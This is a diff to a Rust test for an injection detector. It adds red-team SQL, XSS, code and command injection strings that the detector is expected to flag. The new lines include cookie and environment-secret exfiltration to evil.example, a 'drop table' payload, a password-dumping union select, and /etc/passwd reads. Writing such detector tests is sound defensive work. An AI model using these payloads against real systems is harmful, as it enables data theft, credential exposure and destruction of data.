@@ -161,6 +161,20 @@ fn pasted_code_stays_unconfirmed_and_the_injections_it_resembles_do_not() {
         ("';require('fs').readFileSync('/etc/passwd')//", Family::Code),
         ("';include('/proc/self/environ');//", Family::Code),
         ("1;cat${IFS%??}/etc/passwd", Family::Command),
+        // The fourth red team's, against the parser-aware reading: a breakout after a string the
+        // value opened, doubled quotes, MySQL's `--` before no blank, a CR ending a Postgres
+        // comment, sinks after an own string, `let` in markup, network modules after a
+        // breakout, an unset variable hugging a command.
+        ("x' or name='alice'-- ", Family::Sqli),
+        ("x'-'0';drop table t2-- ", Family::Sqli),
+        ("x''y'/*aaaaaaaaaaaaaaaaaaaaaaaa*/union select pw from users-- ", Family::Sqli),
+        ("x''y' or 2>1-- ", Family::Sqli),
+        ("x'--'' or 2>1#", Family::Sqli),
+        ("x'--\r or '1'>'0'--", Family::Sqli),
+        ("x'-'';location='//evil.example/?'+document.cookie//", Family::Xss),
+        ("\" let onmouseover=open('//evil.example') x=\"", Family::Xss),
+        ("';require('http').get('http://evil.example/?'+process.env.SECRET)//", Family::Code),
+        ("x;cat$u /etc/passwd", Family::Command),
     ] {
         assert!(confirmed(&value(p)).contains(&family), "{p}: {:?}", confirmed(&value(p)));
     }
